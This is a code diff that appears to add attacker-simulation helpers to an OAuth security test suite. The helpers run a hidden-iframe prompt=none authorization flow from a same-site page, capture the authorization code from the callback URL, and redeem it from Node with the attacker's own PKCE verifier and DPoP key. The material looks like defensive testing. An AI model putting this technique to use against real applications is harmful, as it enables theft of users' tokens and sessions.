@@ -252,3 +252,75 @@ function statusOf(error: unknown): number {
   if (typeof status === 'number') return status
   throw error
 }
+
+// ---------------------------------------------------------------------------------------------
+// Acquisition of new tokens: the script's own prompt=none flow, which bypasses the SDK
+// ---------------------------------------------------------------------------------------------
+
+/** The app's page on the provider's site, where the attacker's script runs. */
+export const SAME_SITE_APP = 'http://127.0.0.1:5173'
+const REDIRECT_URI = `${SAME_SITE_APP}/silent-callback.html`
+
+/** The code's whole callback query (code, state, iss), and the state and verifier the script made. */
+export type Stolen = { code: string; query: string; state: string; verifier: string }
+export type SilentOutcome = Stolen | { error: string }
+
+/**
+ * The attacker's script: its own prompt=none request in a hidden iframe, answered at a page of the
+ * app's origin, whose URL it reads. Bounded: 5 s. Resolves with the code and the verifier it made.
+ */
+export async function silentFlowInFrame(page: Page, authorizationEndpoint: string): Promise<SilentOutcome> {
+  await page.goto(`${SAME_SITE_APP}/silent-callback.html`)
+  return page.evaluate(
+    async ({ endpoint, clientId, redirectUri }) => {
+      const b64url = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
+      const verifier = b64url(crypto.getRandomValues(new Uint8Array(32)))
+      const challenge = b64url(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))))
+      const url = new URL(endpoint)
+      const params = { response_type: 'code', client_id: clientId, redirect_uri: redirectUri, scope: 'openid', prompt: 'none' }
+      for (const [name, value] of Object.entries(params)) url.searchParams.set(name, value)
+      const state = b64url(crypto.getRandomValues(new Uint8Array(16)))
+      url.searchParams.set('state', state)
+      url.searchParams.set('code_challenge', challenge)
+      url.searchParams.set('code_challenge_method', 'S256')
+      const frame = document.createElement('iframe')
+      frame.style.display = 'none'
+      frame.src = url.href
+      document.body.append(frame)
+      let answer: URLSearchParams | undefined
+      for (let i = 0; i < 50 && !answer; i++) {
+        await new Promise((resolve) => setTimeout(resolve, 100))
+        try {
+          const href = frame.contentWindow?.location.href ?? ''
+          if (href.startsWith(redirectUri)) answer = new URL(href).searchParams
+        } catch {
+          // Still at the provider: another origin.
+        }
+      }
+      frame.remove()
+      if (!answer) return { error: 'no answer within 5 s' }
+      const code = answer.get('code')
+      return code ? { code, query: answer.toString(), state, verifier } : { error: answer.get('error') ?? 'no code, no error' }
+    },
+    { endpoint: authorizationEndpoint, clientId: CLIENT_ID, redirectUri: REDIRECT_URI },
+  )
+}
+
+/** The attacker redeems the code from Node, with a DPoP key of its own when `dpop` is given. */
+export async function redeemFromNode(issuer: string, { query, state, verifier }: Stolen, dpop?: oauth.DPoPHandle) {
+  const url = new URL(issuer)
+  const as = await oauth.processDiscoveryResponse(url, await oauth.discoveryRequest(url, { [oauth.allowInsecureRequests]: true }))
+  const client = { client_id: CLIENT_ID }
+  const callback = oauth.validateAuthResponse(as, client, new URLSearchParams(query), state)
+  const redeem = async () =>
+    oauth.processAuthorizationCodeResponse(
+      as,
+      client,
+      await oauth.authorizationCodeGrantRequest(as, client, oauth.None(), callback, REDIRECT_URI, verifier, {
+        DPoP: dpop,
+        [oauth.allowInsecureRequests]: true,
+      }),
+      { expectedNonce: oauth.expectNoNonce, requireIdToken: true },
+    )
+  return redeem().catch((error: unknown) => (oauth.isDPoPNonceError(error) ? redeem() : Promise.reject(error)))
+}
